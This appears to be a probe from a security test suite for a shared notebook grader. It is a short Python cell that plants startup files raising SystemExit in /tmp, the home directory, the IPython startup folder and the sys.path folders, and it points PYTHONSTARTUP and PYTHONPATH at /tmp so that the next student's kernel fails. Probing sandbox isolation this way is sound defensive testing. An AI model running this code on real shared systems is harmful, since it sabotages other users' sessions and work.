# ---
# class: other students' work
# tries: leaves modules, caches and settings where the next student's kernel would find them, in /tmp and in the home it sees
# success: the next student's marks lost, or something planted
# ---

# %% solution="total"
import os
import sys
from pathlib import Path

poison = "raise SystemExit('planted-by-@NAME@')\n"
for folder in ("/tmp", os.path.expanduser("~"), os.path.expanduser("~/.ipython/profile_default/startup"), *sys.path):
    try:
        Path(folder).mkdir(parents=True, exist_ok=True)
        if "site-packages" not in folder and "lib/python" not in folder:
            Path(folder, "00-planted-by-@NAME@.py").write_text(poison)
    except OSError:
        continue
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
